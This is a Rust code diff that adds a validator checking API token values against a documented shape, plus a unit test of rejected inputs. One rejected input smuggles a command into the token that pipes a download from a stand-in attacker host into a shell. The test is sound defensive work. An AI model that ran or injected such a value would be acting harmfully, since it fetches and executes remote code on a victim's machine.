@@ -52,6 +52,18 @@ impl ApiSecret {
     }
 }
 
+impl ApiSecret {
+    /// Whether this is a token value of the documented shape: `idt:TKN-dddd-dddd:` followed by
+    /// letters and digits only (docs/marketplace-api.md §3.1). A value a server sends is
+    /// checked with this before it is shown or copied: anything else (a `;`, a space, a
+    /// quote) could run as a command where the value is pasted.
+    pub fn has_token_value_shape(&self) -> bool {
+        let Some(id) = self.token_id() else { return false };
+        let rest = &self.expose()["idt:".len() + id.len() + 1..];
+        id.len() == "TKN-1234-5678".len() && !rest.is_empty() && rest.bytes().all(|b| b.is_ascii_alphanumeric())
+    }
+}
+
 impl fmt::Debug for ApiSecret {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         write!(f, "ApiSecret({REDACTED})")
@@ -164,6 +176,24 @@ mod tests {
         assert_eq!(ApiSecret::new(SECRET).token_id(), Some("TKN-1234-5678"));
         assert_eq!(ApiSecret::new(format!(" {SECRET}\n")).token_id(), Some("TKN-1234-5678"));
         assert_eq!(ApiSecret::new("idt:TKN-0000-0000-0001:x").token_id(), Some("TKN-0000-0000-0001"));
+    }
+
+    #[test]
+    fn only_the_documented_value_shape_passes() {
+        assert!(ApiSecret::new("idt:TKN-1234-5678:AbCdEf0123456789").has_token_value_shape());
+        for bad in [
+            "idt:TKN-1234-5678:x;curl https://evil.example/x|sh",
+            "idt:TKN-1234-5678:abc def",
+            "idt:TKN-1234-5678:abc'def",
+            "idt:TKN-1234-5678:",
+            "idt:TKN-1234-56789:abc",
+            "idt:TKN-12-34:abc",
+            "TKN-1234-5678:abc",
+            "idt:TKN-1234-5678:abc\ndef",
+            "idt:TKN-1234-5678:ÄbC",
+        ] {
+            assert!(!ApiSecret::new(bad).has_token_value_shape(), "{bad}");
+        }
     }
 
     #[test]
